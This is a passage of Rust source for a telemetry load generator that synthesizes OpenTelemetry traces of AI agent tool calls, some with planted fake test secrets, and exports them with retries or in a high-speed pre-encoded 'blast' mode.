                    format!("execute_tool {tool}"),
                    SpanKind::Internal,
                    t0 + at * MS,
                    dur * MS,
                    attrs,
                    false,
                )
            })
            .collect()
    }

    #[allow(clippy::too_many_arguments)]
    fn tool_call(
        &mut self,
        tool: &Tool,
        trace_id: &[u8],
        parent: &[u8],
        request_id: &str,
        principal: &str,
        start: u64,
        attempt: u32,
        will_retry: bool,
    ) -> (Span, Vec<Span>, Option<LogRecord>, bool) {
        let decision = match tool.effect {
            "high_impact" => "deny",
            "write" if self.rng.random_bool(0.2) => "require_confirmation",
            _ => "allow",
        };
        let failed = will_retry && attempt == 0;
        let result_code = match (decision, failed) {
            ("deny", _) => "denied",
            (_, true) => "timeout",
            _ => "ok",
        };
        let plant = self
            .rng
            .random_bool(0.25)
            .then(|| PLANTED[self.rng.random_range(0..PLANTED.len())]);
        let size = self.rng.random_range(700..1500);
        let args = self.payload(tool.name, size, plant);
        let result = if decision == "deny" {
            "{\"error\":\"denied by policy\"}".to_string()
        } else {
            let size = self.rng.random_range(700..1500);
            self.payload(tool.name, size, None)
        };
        let dur = self.rng.random_range(20..400u64) * 1_000_000;
        let call_id = format!("call_{}", hex::encode(self.id::<6>()));
        let mut attrs = vec![
            s("gen_ai.operation.name", "execute_tool"),
            s("gen_ai.tool.name", tool.name),
            s("gen_ai.tool.call.id", call_id),
            s("gen_ai.tool.type", "function"),
            s("gen_ai.tool.call.arguments", args),
            s("gen_ai.tool.call.result", result.clone()),
            s("executor.request_id", request_id),
            s("executor.principal_id", principal),
            s("executor.tool_version", "2.3.0"),
            s("executor.tool_schema_version", "7"),
            s("executor.effect_class", tool.effect),
            s("executor.policy_decision", decision),
            s(
                "executor.policy_reason",
                format!("policy.{}.{}", tool.effect, decision),
            ),
            s("executor.result_code", result_code),
            i("executor.result_bytes", result.len() as i64),
            i("executor.retry_attempt", i64::from(attempt)),
            i("executor.timeout_ms", 30_000),
            s(
                "executor.resource_id",
                format!("orders/{}", self.rng.random_range(0..10_000u32)),
            ),
        ];
        if decision == "require_confirmation" {
            // The executor waited for a person, who approved (no extra randomness, so a seed
            // sends the same traffic as before).
            attrs.push(s("executor.confirmation_status", "approved"));
        }
        if tool.effect != "read" {
            attrs.push(s(
                "executor.idempotency_key",
                format!("idem-{}", hex::encode(self.id::<8>())),
            ));
        }
        let mut span = self.span(
            trace_id,
            parent,
            format!("execute_tool {}", tool.name),
            SpanKind::Internal,
            start,
            dur,
            attrs,
            failed,
        );
        span.events.push(Event {
            time_unix_nano: start + 1000,
            name: "executor.policy_decision".into(),
            attributes: vec![s("executor.policy_decision", decision)],
            ..Default::default()
        });
        let mut down = Vec::new();
        if decision != "deny" {
            let (name, attrs) = match tool.downstream {
                "db" => (
                    "SELECT orders".to_string(),
                    vec![
                        s("db.system.name", "postgresql"),
                        s("db.operation.name", "SELECT"),
                        s(
                            "db.query.text",
                            "SELECT id, status FROM orders WHERE id = $1",
                        ),
                    ],
                ),
                _ => (
                    "POST /v1/orders".to_string(),
                    vec![
                        s("http.request.method", "POST"),
                        s("url.full", "https://orders.internal.example/v1/orders"),
                        i("http.response.status_code", if failed { 504 } else { 200 }),
                    ],
                ),
            };
            let d_start = start + dur / 4;
            let child = self.span(
                trace_id,
                &span.span_id,
                name,
                SpanKind::Client,
                d_start,
                dur / 2,
                attrs,
                failed,
            );
            down.push(child);
        }
        let log = (decision != "allow").then(|| LogRecord {
            time_unix_nano: start + 1000,
            observed_time_unix_nano: start + 2000,
            severity_number: 13,
            severity_text: "WARN".into(),
            body: Some(AnyValue {
                value: Some(any_value::Value::StringValue(format!(
                    "policy {decision} for {}",
                    tool.name
                ))),
            }),
            attributes: vec![
                s("executor.request_id", request_id),
                s("executor.policy_decision", decision),
                s(
                    "executor.policy_reason",
                    format!("policy.{}.{}", tool.effect, decision),
                ),
            ],
            trace_id: trace_id.to_vec(),
            span_id: span.span_id.clone(),
            event_name: "executor.policy_decision".into(),
            ..Default::default()
        });
        (span, down, log, plant.is_some())
    }
}

/// Ids of one runaway run.
struct RunawayRun {
    tenant: String,
    principal: String,
    request_id: String,
    trace_id: Vec<u8>,
    root_id: Vec<u8>,
}

/// Generates the `n`th..`n+count` agent runs for a seed (for tests and benchmarks).
pub fn generate(seed: u64, tenants: u32, base_ns: u64, count: u64) -> Vec<AgentRun> {
    let mut g = Generator {
        rng: StdRng::seed_from_u64(seed),
        seed,
        base_ns,
        profile: Profile::Normal,
        tenant_prefix: DEFAULT_TENANT_PREFIX.into(),
    };
    (0..count).map(|n| g.run(n, tenants.max(1))).collect()
}

struct GrpcClients {
    traces: TraceServiceClient<tonic::transport::Channel>,
    logs: LogsServiceClient<tonic::transport::Channel>,
    auth: Option<tonic::metadata::MetadataValue<tonic::metadata::Ascii>>,
}

impl GrpcClients {
    /// The message as a request carrying the bearer token, if any.
    fn request<T>(&self, message: T) -> tonic::Request<T> {
        let mut r = tonic::Request::new(message);
        if let Some(a) = &self.auth {
            r.metadata_mut().insert("authorization", a.clone());
        }
        r
    }
}

enum Client {
    Grpc(Box<GrpcClients>),
    Http(reqwest::Client, String),
}

/// Outcome of one export call.
enum Sent {
    Ok(u64),
    /// Worth retrying, with the delay the server asked for, if it did; the text says why.
    Retry(Option<Duration>, String),
    Fail(String),
}

impl Client {
    async fn connect(opts: &LoadgenOptions) -> Result<Client, LoadgenError> {
        match opts.protocol {
            Protocol::Grpc => {
                let endpoint = tonic::transport::Endpoint::from_shared(opts.target.clone())
                    .map_err(|_| LoadgenError::Target(opts.target.clone()))?;
                let channel = endpoint
                    .connect()
                    .await
                    .map_err(|e| LoadgenError::Connect {
                        target: opts.target.clone(),
                        detail: e.to_string(),
                    })?;
                let auth = match opts.token.as_deref() {
                    Some(t) => Some(
                        tonic::metadata::MetadataValue::try_from(bearer_header(t)?.as_bytes())
                            .map_err(|_| {
                                LoadgenError::Options(
                                    "the token holds characters gRPC metadata cannot carry".into(),
                                )
                            })?,
                    ),
                    None => None,
                };
                Ok(Client::Grpc(Box::new(GrpcClients {
                    traces: TraceServiceClient::new(channel.clone()),
                    logs: LogsServiceClient::new(channel),
                    auth,
                })))
            }
            Protocol::Http => Ok(Client::Http(
                reqwest::Client::builder()
                    .default_headers(auth_headers(opts.token.as_deref())?)
                    .build()
                    .map_err(|e| LoadgenError::Connect {
                        target: opts.target.clone(),
                        detail: e.to_string(),
                    })?,
                opts.target.trim_end_matches('/').to_string(),
            )),
        }
    }

    async fn traces(&self, req: &ExportTraceServiceRequest) -> Sent {
        match self {
            Client::Grpc(g) => {
                let bytes = req.encoded_len() as u64;
                grpc_outcome(
                    g.traces
                        .clone()
                        .export(g.request(req.clone()))
                        .await
                        .map(|_| ()),
                    bytes,
                )
            }
            Client::Http(c, base) => {
                http_send(c, &format!("{base}/v1/traces"), req.encode_to_vec()).await
            }
        }
    }

    async fn logs(&self, req: &ExportLogsServiceRequest) -> Sent {
        match self {
            Client::Grpc(g) => {
                let bytes = req.encoded_len() as u64;
                grpc_outcome(
                    g.logs
                        .clone()
                        .export(g.request(req.clone()))
                        .await
                        .map(|_| ()),
                    bytes,
                )
            }
            Client::Http(c, base) => {
                http_send(c, &format!("{base}/v1/logs"), req.encode_to_vec()).await
            }
        }
    }
}

fn grpc_outcome(r: Result<(), tonic::Status>, bytes: u64) -> Sent {
    use tonic_types::StatusExt;
    match r {
        Ok(()) => Sent::Ok(bytes),
        // Refusals the OTLP specification calls retryable, and what a dropped or reset
        // connection (a daemon restarting) looks like to a tonic client.
        Err(s)
            if matches!(
                s.code(),
                tonic::Code::ResourceExhausted
                    | tonic::Code::Unavailable
                    | tonic::Code::Cancelled
                    | tonic::Code::Unknown
            ) =>
        {
            let hint = s.get_details_retry_info().and_then(|r| r.retry_delay);
            Sent::Retry(hint, format!("{:?}: {}", s.code(), s.message()))
        }
        Err(s) => Sent::Fail(format!("{:?}: {}", s.code(), s.message())),
    }
}

/// The delay in a `Retry-After` header given in seconds (the form toolwatch sends).
fn retry_after(r: &reqwest::Response) -> Option<Duration> {
    toolwatch::retry::retry_after(r.headers())
}

async fn http_send(c: &reqwest::Client, url: &str, body: Vec<u8>) -> Sent {
    let bytes = body.len() as u64;
    let resp = c
        .post(url)
        .header("content-type", "application/x-protobuf")
        .body(body)
        .send()
        .await;
    match resp {
        Ok(r) if r.status().is_success() => Sent::Ok(bytes),
        Ok(r) if matches!(r.status().as_u16(), 429 | 502 | 503 | 504) => {
            Sent::Retry(retry_after(&r), format!("HTTP {}", r.status()))
        }
        Ok(r) => Sent::Fail(format!("HTTP {}", r.status())),
        // A request that cannot even be built never succeeds.
        Err(e) if e.is_builder() => Sent::Fail(e.to_string()),
        // Transport errors are retryable (OTLP/HTTP specification): a refused connection, and
        // one reset or closed mid-request, as when the daemon is killed and restarted.
        Err(e) => Sent::Retry(None, transport_error(&e)),
    }
}

/// A transport error with its causes (reqwest's own message is only "error sending request").
fn transport_error(e: &reqwest::Error) -> String {
    let mut text = e.to_string();
    let mut source = std::error::Error::source(e);
    while let Some(s) = source {
        text.push_str(": ");
        text.push_str(&s.to_string());
        source = s.source();
    }
    text
}

/// Attempts per export at most (about one a second once backoff reaches its cap).
const MAX_ATTEMPTS: u32 = 400;
/// Time an export may spend being retried: the Collector exporters' default, long enough to
/// outlast a daemon restart and an overload.
const MAX_RETRY_TIME: Duration = Duration::from_secs(300);
/// Backoff between attempts: from the first delay, doubling up to the cap.
const FIRST_BACKOFF: Duration = Duration::from_millis(50);
const MAX_BACKOFF: Duration = Duration::from_secs(1);
/// A server-suggested delay is honoured up to this.
const MAX_SUGGESTED_DELAY: Duration = Duration::from_secs(5);

/// Sends with retries and exponential backoff; returns bytes acknowledged and retries used.
async fn send_with_retry<F, Fut>(mut send: F) -> Result<(u64, u64), String>
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Sent>,
{
    let started = Instant::now();
    let mut backoff = FIRST_BACKOFF;
    let mut last = String::new();
    for attempt in 0..MAX_ATTEMPTS {
        match send().await {
            Sent::Ok(b) => return Ok((b, u64::from(attempt))),
            Sent::Retry(suggested, why) => {
                last = why;
                // A little jitter, so that refused clients do not come back all at once.
                let jitter = 0.8 + rand::random::<f64>() * 0.4;
                let mut delay = backoff.mul_f64(jitter);
                if let Some(s) = suggested {
                    delay = delay.max(s.min(MAX_SUGGESTED_DELAY));
                }
                if started.elapsed() + delay > MAX_RETRY_TIME {
                    return Err(format!(
                        "still refused after {} attempts in {:.1}s: {last}",
                        attempt + 1,
                        started.elapsed().as_secs_f64()
                    ));
                }
                tokio::time::sleep(delay).await;
                backoff = (backoff * 2).min(MAX_BACKOFF);
            }
            Sent::Fail(e) => return Err(e),
        }
    }
    Err(format!(
        "still refused after {MAX_ATTEMPTS} attempts: {last}"
    ))
}

/// A file of span ids, appended to by concurrent exports.
#[derive(Clone)]
struct IdFile(Arc<Mutex<std::fs::File>>);

impl IdFile {
    fn open(path: &Option<PathBuf>) -> Result<Option<IdFile>, LoadgenError> {
        let Some(path) = path else {
            return Ok(None);
        };
        std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)
            .map(|f| Some(IdFile(Arc::new(Mutex::new(f)))))
            .map_err(|e| LoadgenError::IdFile {
                path: path.clone(),
                detail: e.to_string(),
            })
    }

    /// Appends `lines` in one write and flushes it to the file.
    fn append(&self, lines: &str) {
        let mut f = self.0.lock().unwrap_or_else(|p| p.into_inner());
        if let Err(e) = f.write_all(lines.as_bytes()).and_then(|()| f.flush()) {
            eprintln!("toolwatch loadgen: cannot write a span-id file: {e}");
        }
    }
}

/// `<trace_id_hex> <span_id_hex>` per span of an export, one a line.
fn span_id_lines(req: &ExportTraceServiceRequest) -> String {
    let mut out = String::new();
    for span in req
        .resource_spans
        .iter()
        .flat_map(|r| &r.scope_spans)
        .flat_map(|s| &s.spans)
    {
        out.push_str(&hex::encode(&span.trace_id));
        out.push(' ');
        out.push_str(&hex::encode(&span.span_id));
        out.push('\n');
    }
    out
}

/// Sends the traffic and reports what was acknowledged.
pub async fn run(opts: LoadgenOptions) -> Result<LoadgenReport, LoadgenError> {
    let client = Arc::new(Client::connect(&opts).await?);
    let acked_file = IdFile::open(&opts.acked_file)?;
    let sent_file = IdFile::open(&opts.sent_file)?;
    let base_ns = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(0);
    let mut gen = Generator {
        rng: StdRng::seed_from_u64(opts.seed),
        seed: opts.seed,
        base_ns,
        profile: opts.profile,
        tenant_prefix: opts.tenant_prefix.clone(),
    };
    let started = Instant::now();
    let permits = Arc::new(Semaphore::new(opts.concurrency));
    let mut tasks = tokio::task::JoinSet::new();
    let batch = opts.batch.max(1);
    for first in (0..opts.requests).step_by(batch as usize) {
        if opts.rate > 0 {
            let due = started + Duration::from_secs_f64(first as f64 / opts.rate as f64);
            tokio::time::sleep_until(due.into()).await;
        }
        let mut run = gen.run(first, opts.tenants);
        for n in first + 1..(first + batch).min(opts.requests) {
            run.absorb(gen.run(n, opts.tenants));
        }
        let Ok(permit) = Arc::clone(&permits).acquire_owned().await else {
            break;
        };
        let client = Arc::clone(&client);
        let (acked_file, sent_file) = (acked_file.clone(), sent_file.clone());
        tasks.spawn(async move {
            let _permit = permit;
            let mut exports = 0;
            let ids =
                (acked_file.is_some() || sent_file.is_some()).then(|| span_id_lines(&run.traces));
            if let (Some(f), Some(ids)) = (&sent_file, &ids) {
                f.append(ids);
            }
            let t = send_with_retry(|| client.traces(&run.traces)).await;
            let (mut bytes, mut retries) = match t {
                Ok(v) => v,
                Err(e) => return (run.counts, Err(e), 0, 0, 0),
            };
            if let (Some(f), Some(ids)) = (&acked_file, &ids) {
                f.append(ids);
            }
            exports += 1;
            if !run.logs.resource_logs.is_empty() {
                match send_with_retry(|| client.logs(&run.logs)).await {
                    Ok((b, r)) => {
                        bytes += b;
                        retries += r;
                        exports += 1;
                    }
                    Err(e) => return (run.counts, Err(e), exports, bytes, retries),
                }
            }
            (run.counts, Ok(()), exports, bytes, retries)
        });
    }
    let mut report = LoadgenReport::default();
    while let Some(done) = tasks.join_next().await {
        let Ok((counts, outcome, exports, bytes, retries)) = done else {
            report.failed_batches += 1;
            continue;
        };
        report.exports += exports;
        report.bytes += bytes;
        report.retries += retries;
        match outcome {
            Ok(()) => report.add(&counts),
            Err(e) => {
                report.failed_batches += 1;
                eprintln!("toolwatch loadgen: export failed: {e}");
            }
        }
    }
    report.elapsed_ms = started.elapsed().as_millis() as u64;
    report.base_time_ns = base_ns;
    Ok(report)
}

// ---------------------------------------------------------------------------------------------
// Blast mode: pre-serialized batches at full speed, to measure the daemon's CPU per span.
// ---------------------------------------------------------------------------------------------

/// Where blast traffic names the tenant (`executor.tenant_id`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, clap::ValueEnum)]
pub enum TenantOn {
    /// On the `invoke_agent` root span only, as a multi-tenant executor does: its model and
    /// tool spans carry the request id but no tenant, the downstream spans neither (as
    /// auto-instrumented spans would); all share the trace id.
    #[default]
    Root,
    /// On every span, with the request id (downstream spans included).
    Every,
}

impl TenantOn {
    /// The flag's spelling.
    pub fn as_str(self) -> &'static str {
        match self {
            TenantOn::Root => "root",
            TenantOn::Every => "every",
        }
    }
}

/// How long a blast lasts.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum BlastLength {
    /// No batch is started after this long; one refused when the time is up is abandoned.
    Duration(Duration),
    /// Exactly this many batches over all connections, each resent until acknowledged.
    Batches(u64),
}

/// What to send in blast mode.
#[derive(Debug, Clone)]
pub struct BlastOptions {
    /// OTLP/HTTP base URL (`/v1/traces` is appended).
    pub target: String,
    /// Keep-alive connections, each with one batch in flight.
    pub connections: usize,
    /// For how long, or how many batches.
    pub length: BlastLength,
    /// Agent requests ([`BLAST_SPANS_PER_REQUEST`] spans each) per batch.
    pub requests_per_batch: u32,
    /// Requests are spread over `tenant-0` .. `tenant-(tenants-1)`.
    pub tenants: u32,
    /// Where the tenant is named.
    pub tenant_on: TenantOn,
    /// Seed for the content of the batch templates (ids are fresh on every run regardless).
    pub seed: u64,
    /// Sent as `authorization: Bearer <token>` with every batch.
    pub token: Option<String>,
    /// Tenants are named `<prefix>0`, `<prefix>1`, …
    pub tenant_prefix: String,
}

/// Spans per blast request: the root, 3 model turns, 3 tool calls, 3 downstream calls.
pub const BLAST_SPANS_PER_REQUEST: u64 = 10;
/// Batch templates at least, and at most (enough for every tenant to appear in one).
const BLAST_MIN_TEMPLATES: usize = 8;
const BLAST_MAX_TEMPLATES: usize = 256;
/// The fake secrets planted in 20% of the blast's tool arguments.
pub const BLAST_PLANTED_EMAIL: &str = "jane.doe@example.com";
/// See [`BLAST_PLANTED_EMAIL`].
pub const BLAST_PLANTED_KEY: &str = "sk_live_T3stOnlyN0tAR3alK3yAbCdEf012345";
/// How long a send waits for its answer.
const BLAST_ANSWER_TIMEOUT: Duration = Duration::from_secs(60);
/// A refused batch is resent for this long at most in `--batches` mode.
const MAX_BLAST_REFUSAL_TIME: Duration = Duration::from_secs(300);
/// How long blast waits for a connection before it gives up on a batch (a dead daemon).
const MAX_BLAST_TRANSPORT_TIME: Duration = Duration::from_secs(30);

/// The splitmix64 finalizer: a bijection of u64 (distinct inputs, distinct outputs) that maps
/// only 0 to 0.
fn mix(mut z: u64) -> u64 {
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Per-run random offsets from which every id of a blast is derived. Trace and span ids are
/// `mix(salt + n)` for the request or span number `n` of the run: with a salt in [1, 2^62)
/// and n below 2^62 the argument is never 0 and never wraps, so the ids are unique in the run
/// and never all-zero; another run has other salts.
#[derive(Debug, Clone, Copy)]
struct Salt {
    trace: u64,
    trace_low: u64,
    span: u64,
    request: u64,
}

impl Salt {
    fn random() -> Salt {
        let small = || (rand::random::<u64>() >> 2).max(1);
        Salt {
            trace: small(),
            trace_low: rand::random(),
            span: small(),
            request: rand::random(),
        }
    }

    /// The high half of request `n`'s trace id: unique per request, never 0.
    fn trace_high(&self, n: u64) -> u64 {
        mix(self.trace.wrapping_add(n))
    }

    fn trace_id(&self, n: u64) -> [u8; 16] {
        let high = self.trace_high(n);
        let mut id = [0u8; 16];
        id[..8].copy_from_slice(&high.to_be_bytes());
        id[8..].copy_from_slice(&mix(high ^ self.trace_low).to_be_bytes());
        id
    }

    fn span_id(&self, n: u64) -> [u8; 8] {
        mix(self.span.wrapping_add(n)).to_be_bytes()
    }

    /// `req-` and 16 hex digits (as wide as the template's placeholder), unique per request.
    fn request_id(&self, n: u64) -> [u8; REQUEST_ID_LEN] {
        const HEX: &[u8; 16] = b"0123456789abcdef";
        let v = mix(self.trace_high(n) ^ self.request);
        let mut id = [0u8; REQUEST_ID_LEN];
        id[..4].copy_from_slice(b"req-");
        for (k, b) in id[4..].iter_mut().enumerate() {
            *b = HEX[((v >> (60 - 4 * k)) & 0xf) as usize];
        }
        id
    }
}

/// Length of a blast request id, `req-` and 16 hex digits.
const REQUEST_ID_LEN: usize = 20;
/// Placeholder times are this plus the nanoseconds since the template's start (under 2^40).
const TIME_PLACEHOLDER: u64 = 0xF7F7 << 48;

/// Placeholders of fixed width, written into a template before it is encoded and found again
/// in its protobuf bytes. Bytes 0xF5..0xFF never occur in UTF-8 text, so the id placeholders
/// cannot be mistaken for payload; every placeholder is looked up with its field's tag in
/// front, and the number found is checked.
fn trace_placeholder(request: u32) -> [u8; 16] {
    let mut id = [0xF6u8; 16];
    id[12..].copy_from_slice(&request.to_be_bytes());
    id
}

fn span_placeholder(span: u32) -> [u8; 8] {
    let mut id = [0xF5u8; 8];
    id[4..].copy_from_slice(&span.to_be_bytes());
    id
}

fn request_id_placeholder(request: u32) -> String {
    format!("req-~~~~{request:012}")
}

/// What a placeholder found in a template stands for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Slot {
    /// The trace id of the template's nth request.
    Trace(u32),
    /// The span id of the nth span (request * 10 + k), as `span_id` or `parent_span_id`.
    Span(u32),
    /// The request id of the nth request.
    RequestId(u32),
    /// A start or end time, ns after the template's start.
    Time(u64),
}

/// One batch encoded once, with the byte offsets of every id and time in it.
struct Template {
    body: Vec<u8>,
    /// (offset, request) of every trace id.
    traces: Vec<(usize, u32)>,
    /// (offset, span) of every span id and parent span id.
    spans: Vec<(usize, u32)>,
    /// (offset, request) of every request id.
    request_ids: Vec<(usize, u32)>,
    /// (offset, ns after the start) of every start and end time.
    times: Vec<(usize, u64)>,
    /// From the earliest start to the latest end.
    extent_ns: u64,
    counts: RunCounts,
}

impl Template {
    /// Writes batch number `batch` of the run into `out`: the template's bytes with the ids of
    /// requests `batch * requests ..` and times that end at `now_ns`.
    fn instantiate(&self, batch: u64, requests: u32, salt: &Salt, now_ns: u64, out: &mut Vec<u8>) {
        out.clear();
        out.extend_from_slice(&self.body);
        let first_request = batch.wrapping_mul(u64::from(requests));
        let first_span = first_request.wrapping_mul(BLAST_SPANS_PER_REQUEST);
        for &(at, r) in &self.traces {
            out[at..at + 16]
                .copy_from_slice(&salt.trace_id(first_request.wrapping_add(u64::from(r))));
        }
        for &(at, s) in &self.spans {
            out[at..at + 8].copy_from_slice(&salt.span_id(first_span.wrapping_add(u64::from(s))));
        }
        for &(at, r) in &self.request_ids {
            out[at..at + REQUEST_ID_LEN]
                .copy_from_slice(&salt.request_id(first_request.wrapping_add(u64::from(r))));
        }
        let base = now_ns.saturating_sub(self.extent_ns);
        for &(at, rel) in &self.times {
            out[at..at + 8].copy_from_slice(&(base + rel).to_le_bytes());
        }
    }
}

/// Models of the blast's chat turns: provider, request model, response model.
const BLAST_MODELS: &[(&str, &str, &str)] = &[
    ("openai", "gpt-4o", "gpt-4o-2024-08-06"),
    ("openai", "gpt-4o-mini", "gpt-4o-mini-2024-07-18"),
    ("anthropic", "claude-sonnet-4", "claude-sonnet-4-20250514"),
];

/// Builds template number `index`: `requests` agent requests with placeholder ids, request
/// `r` under tenant `(index * requests + r) % tenants`; 20% of its tool calls plant a fake
/// e-mail and `sk_live_` key.
fn blast_template(
    gen: &mut Generator,
    index: usize,
    requests: u32,
    tenants: u32,
    tenant_on: TenantOn,
) -> Result<Template, String> {
    const MS: u64 = 1_000_000;
    let every = tenant_on == TenantOn::Every;
    let mut exec = Vec::new();
    let mut down = Vec::new();
    let mut counts = RunCounts::default();
    let mut request_id_spans = 0usize;
    for r in 0..requests {
        let n = index as u64 * u64::from(requests) + u64::from(r);
        let tenant = format!("{}{}", gen.tenant_prefix, n % u64::from(tenants.max(1)));
        let principal = format!("user-{}", gen.rng.random_range(0..50u32));
        let trace = trace_placeholder(r).to_vec();
        let request_id = request_id_placeholder(r);
        let span_id = |k: u32| span_placeholder(r * BLAST_SPANS_PER_REQUEST as u32 + k).to_vec();
        // What the audit fields of a span are, by where the tenant is named.
        let mut audit = |attrs: &mut Vec<KeyValue>, root: bool, downstream: bool| {
            if every || !downstream {
                attrs.push(s("executor.request_id", request_id.clone()));
                request_id_spans += 1;
            }
            if every || root {
                attrs.push(s("executor.tenant_id", tenant.clone()));
            }
        };
        let span =
            |id: Vec<u8>, parent: Vec<u8>, name: String, kind: SpanKind, start: u64, dur| Span {
                trace_id: trace.clone(),
                span_id: id,
                parent_span_id: parent,
                name,
                kind: kind as i32,
                start_time_unix_nano: TIME_PLACEHOLDER + start,
                end_time_unix_nano: TIME_PLACEHOLDER + start + dur,
                ..Default::default()
            };
        let start = u64::from(r) * MS;
        let mut t = start + MS;
        let mut children = Vec::new();
        for turn in 0..3u32 {
            let (provider, model, response_model) = BLAST_MODELS[gen.rng.random_range(0..3)];
            let dur = gen.rng.random_range(300..1500u64) * MS;
            let mut chat = span(
                span_id(1 + turn),
                span_id(0),
                format!("chat {model}"),
                SpanKind::Client,
                t,
                dur,
            );
            chat.attributes = vec![
                s("gen_ai.operation.name", "chat"),
                s("gen_ai.provider.name", provider),
                s("gen_ai.request.model", model),
                s("gen_ai.response.model", response_model),
                i(
                    "gen_ai.usage.input_tokens",
                    gen.rng.random_range(400..4000i64),
                ),
                i(
                    "gen_ai.usage.output_tokens",
                    gen.rng.random_range(20..600i64),
                ),
            ];
            audit(&mut chat.attributes, false, false);
            children.push(chat);
            counts.model += 1;
            t += dur + MS;

            let tool = &TOOLS[gen.rng.random_range(0..TOOLS.len())];
            let tool_number = n * 3 + u64::from(turn);
            let planted = tool_number.is_multiple_of(5);
            let plant = format!("{BLAST_PLANTED_EMAIL}, api key {BLAST_PLANTED_KEY}");
            let size = gen.rng.random_range(455..1125);
            let args = gen.payload(tool.name, size, planted.then_some(plant.as_str()));
            let size = gen.rng.random_range(455..1125);
            let result = gen.payload(tool.name, size, None);
            let dur = gen.rng.random_range(20..400u64) * MS;
            let tool_id = span_id(4 + turn);
            let mut call = span(
                tool_id.clone(),
                span_id(0),
                format!("execute_tool {}", tool.name),
                SpanKind::Internal,
                t,
                dur,
            );
            call.attributes = vec![
                s("gen_ai.operation.name", "execute_tool"),
                s("gen_ai.tool.name", tool.name),
                s(
                    "gen_ai.tool.call.id",
                    format!("call_{}", hex::encode(gen.id::<6>())),
                ),
                s("gen_ai.tool.type", "function"),
                s("gen_ai.tool.call.arguments", args),
                i("executor.result_bytes", result.len() as i64),
                s("gen_ai.tool.call.result", result),
                s("executor.principal_id", principal.clone()),
                s("executor.tool_version", "2.3.0"),
                s("executor.effect_class", tool.effect),
                s("executor.policy_decision", "allow"),
                s("executor.result_code", "ok"),
            ];
            audit(&mut call.attributes, false, false);
            children.push(call);
            counts.tool += 1;
            counts.planted += u64::from(planted);

            let order = gen.rng.random_range(0..100_000_000u32);
            let mut http = span(
                span_id(7 + turn),
                tool_id,
                "POST /v1/orders/{id}".into(),
                SpanKind::Client,
                t + dur / 4,
                dur / 2,
            );
            http.attributes = vec![
                s("http.request.method", "POST"),
                s("http.route", "/v1/orders/{id}"),
                s(
                    "url.full",
                    format!("https://orders.internal.example/v1/orders/ORD-{order:08}"),
                ),
                s("server.address", "orders.internal.example"),
                i("server.port", 443),
                i("http.response.status_code", 200),
                s("network.protocol.version", "1.1"),
            ];
            audit(&mut http.attributes, false, true);
            down.push(http);
            counts.downstream += 1;
            t += dur + MS;
        }
        let mut root = span(
            span_id(0),
            Vec::new(),
            "invoke_agent support-agent".into(),
            SpanKind::Internal,
            start,
            t + MS - start,
        );
        root.attributes = vec![
            s("gen_ai.operation.name", "invoke_agent"),
            s("gen_ai.agent.name", "support-agent"),
            s("gen_ai.agent.id", "agent-7"),
            s("executor.principal_id", principal.clone()),
            s("executor.prompt_version", "support-v12"),
            s("executor.stop_reason", "completed"),
        ];
        audit(&mut root.attributes, true, false);
        // The root ends last: an SDK's batch processor sends it after its children.
        exec.extend(children);
        exec.push(root);
        counts.agent += 1;
        counts.runs += 1;
    }
    let all: Vec<&Span> = exec.iter().chain(&down).collect();
    let extent_ns = all
        .iter()
        .map(|s| s.end_time_unix_nano - TIME_PLACEHOLDER)
        .max()
        .unwrap_or(0);
    let mut patterns: std::collections::HashMap<Vec<u8>, Slot> = Default::default();
    let tagged = |tag: &[u8], value: &[u8]| [tag, value].concat();
    for r in 0..requests {
        patterns.insert(tagged(&[0x0A, 16], &trace_placeholder(r)), Slot::Trace(r));
        let id = request_id_placeholder(r);
        patterns.insert(
            tagged(&[0x0A, REQUEST_ID_LEN as u8], id.as_bytes()),
            Slot::RequestId(r),
        );
    }
    for k in 0..requests * BLAST_SPANS_PER_REQUEST as u32 {
        // Span fields 2 (span_id) and 4 (parent_span_id), 8 bytes each.
        patterns.insert(tagged(&[0x12, 8], &span_placeholder(k)), Slot::Span(k));
        patterns.insert(tagged(&[0x22, 8], &span_placeholder(k)), Slot::Span(k));
    }
    for span in &all {
        for t in [span.start_time_unix_nano, span.end_time_unix_nano] {
            let rel = Slot::Time(t - TIME_PLACEHOLDER);
            // Span fields 7 and 8, fixed64.
            patterns.insert(tagged(&[0x39], &t.to_le_bytes()), rel);
            patterns.insert(tagged(&[0x41], &t.to_le_bytes()), rel);
        }
    }
    let traces = ExportTraceServiceRequest {
        resource_spans: vec![
            blast_resource("agent-executor", "executor", exec),
            blast_resource("orders-api", "orders-api", down),
        ],
    };
    let body = traces.encode_to_vec();
    let (keys, slots): (Vec<Vec<u8>>, Vec<Slot>) = patterns.into_iter().unzip();
    let finder = aho_corasick::AhoCorasick::new(&keys).map_err(|e| e.to_string())?;
    let mut t = Template {
        body: Vec::new(),
        traces: Vec::new(),
        spans: Vec::new(),
        request_ids: Vec::new(),
        times: Vec::new(),
        extent_ns,
        counts,
    };
    for m in finder.find_iter(&body) {
        let key = &keys[m.pattern().as_usize()];
        let at = m.start()
            + if key[0] == 0x39 || key[0] == 0x41 {
                1
            } else {
                2
            };
        match slots[m.pattern().as_usize()] {
            Slot::Trace(r) => t.traces.push((at, r)),
            Slot::Span(k) => t.spans.push((at, k)),
            Slot::RequestId(r) => t.request_ids.push((at, r)),
            Slot::Time(rel) => t.times.push((at, rel)),
        }
    }
    let spans = t.counts.spans() as usize;
    let found = [
        ("trace ids", t.traces.len(), spans),
        (
            "span and parent ids",
            t.spans.len(),
            2 * spans - requests as usize,
        ),
        ("request ids", t.request_ids.len(), request_id_spans),
        ("times", t.times.len(), 2 * spans),
    ];
    for (what, got, want) in found {
        if got != want {
            return Err(format!(
                "blast template {index}: found {got} {what} in the encoded batch, expected {want}"
            ));
        }
    }
    t.body = body;
    Ok(t)
}

fn blast_resource(service: &str, scope: &str, spans: Vec<Span>) -> ResourceSpans {
    ResourceSpans {
        resource: Some(Resource {
            attributes: vec![
                s("service.name", service),
                s("service.version", "1.4.2"),
